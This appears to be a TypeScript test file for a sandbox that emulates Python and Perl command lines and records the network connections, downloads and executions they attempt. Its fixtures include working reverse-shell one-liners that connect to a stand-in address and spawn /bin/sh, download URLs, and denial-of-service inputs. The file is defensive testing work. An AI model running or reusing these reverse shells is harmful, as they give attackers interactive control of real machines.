import assert from 'node:assert/strict'
import { test } from 'node:test'
import { runLine } from '../../testing.ts'
import { perlTokens } from './perl-tokens.ts'
import { parsePython } from './python/syntax.ts'
import { SyntaxFault } from './python/tokens.ts'

const quoted = (code: string): string => `'${code.replaceAll("'", `'"'"'`)}'`
const witnessed = async (line: string, what: string) =>
  (await runLine(line)).seen.filter(one => one.what === what).map(one => one.details)

const shells: readonly [name: string, line: string][] = [
  [
    'python with dup2',
    `python3 -c ${quoted('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.255.255.256",4444));os.dup2(s.fileno(),0);p=subprocess.call(["/bin/sh","-i"]);')}`,
  ],
  [
    'perl with Socket',
    `perl -e ${quoted('use Socket;$i="10.255.255.256";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec("/bin/sh -i");};')}`,
  ],
  [
    'perl with IO',
    `perl -MIO -e ${quoted('$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.255.255.256:4444");')}`,
  ],
]
for (const [name, line] of shells)
  test(`a reverse shell is told: ${name}`, async () => {
    const [connection] = (await witnessed(line, 'connection')) as { host: string; port: number }[]
    assert.equal(connection?.host, '10.255.255.256')
    assert.equal(connection?.port, 4444)
  })

test('URLs are told even where the code is not understood', async () => {
  const python = await witnessed(`python3 -c ${quoted('class A(B): pass\nx = "http://203.0.113.5/a.sh"')}`, 'download')
  assert.deepEqual(
    python.map(one => (one as { url: string }).url),
    ['http://203.0.113.5/a.sh'],
  )
  const perl = await witnessed(`perl -e ${quoted('while (<X>) { y } $x = "http://203.0.113.5/a.pl";')}`, 'download')
  assert.deepEqual(
    perl.map(one => (one as { url: string }).url),
    ['http://203.0.113.5/a.pl'],
  )
})

test('addresses are told even where the code is not understood', async () => {
  const line = `python3 -c ${quoted('class A(B): pass\nconnect(("203.0.113.5", 4444)); other("203.0.113.6:81")')}`
  const found = (await witnessed(line, 'connection')) as { host: string; port: number }[]
  assert.deepEqual(
    found.map(({ host, port }) => `${host}:${port}`),
    ['203.0.113.5:4444', '203.0.113.6:81'],
  )
})

test('what is not understood ends as if all had gone well', async () => {
  const { status, stdout, stderr } = await runLine(
    `python3 -c ${quoted('import threading; threading.Thread(target=print).start()')}`,
  )
  assert.deepEqual({ status, stdout, stderr }, { status: 0, stdout: '', stderr: '' })
})

test('a script that was brought is kept when it runs', async () => {
  const { seen } = await runLine(`printf 'print(1)\\n' > /tmp/a.py; python3 /tmp/a.py`)
  assert.ok(
    seen.some(one => one.what === 'execution' && (one.details as { format: string }).format === 'script python3'),
  )
})

for (const code of [
  'while True: pass',
  'x=[1]\nwhile True: x = x + x',
  'x="a"\nwhile True: x += x',
  'def f(): f()\nf()',
  'print("a" * 10**12)',
  '10**10**10',
  '[0]*10**9',
  'range(10**12)',
  'exec("exec(x)"*9)',
  `${'('.repeat(5000)}`,
  `x = ${'['.repeat(3000)}${']'.repeat(3000)}`,
  `${'-'.repeat(20_000)}1`,
])
  test(`hostile Python comes to an end: ${code.slice(0, 40)}`, async () => {
    const end = await runLine(`python3 -c ${quoted(code)}`).then(
      ({ status }) => status,
      (error: Error) => error.constructor.name,
    )
    assert.ok(typeof end === 'number' || end === 'Exhausted', String(end))
  })

for (const code of [
  '$x = "a"; $x .= $x for 1..100',
  'print "a" x 1e12',
  `${'('.repeat(5000)}`,
  '1 while 1',
  `print ${'!'.repeat(50_000)}1`,
  'eval "eval q(1)" x 99',
])
  test(`hostile Perl comes to an end: ${code.slice(0, 40)}`, async () => {
    const end = await runLine(`perl -e ${quoted(code)}`).then(
      ({ status }) => status,
      (error: Error) => error.constructor.name,
    )
    assert.ok(typeof end === 'number' || end === 'Exhausted', String(end))
  })

test('ten thousand random sources: statements or a syntax fault, nothing else', () => {
  const pieces = [
    '(',
    ')',
    '[',
    ']',
    '{',
    '}',
    ':',
    '\n',
    '    ',
    'if ',
    'for ',
    'in ',
    'x',
    '=',
    '1',
    '"a"',
    "f'{x}'",
    ',',
    'def f',
    'lambda',
    '.',
    'import os',
    ';',
    '\\',
    '#',
    'try',
    'except',
    '*',
    '**',
    '@',
    'return ',
    "'''",
    '\xff',
    '\0',
    'not ',
    'with ',
    'as ',
  ]
  let state = 7
  const random = (below: number): number => {
    state = (state * 48_271) % 2_147_483_647
    return state % below
  }
  for (let turn = 0; turn < 10_000; turn++) {
    const source = Array.from({ length: 1 + random(24) }, () => pieces[random(pieces.length)]).join('')
    try {
      parsePython(source)
    } catch (error) {
      assert.ok(error instanceof SyntaxFault, `${JSON.stringify(source)}: ${error}`)
    }
    perlTokens(source)
  }
})
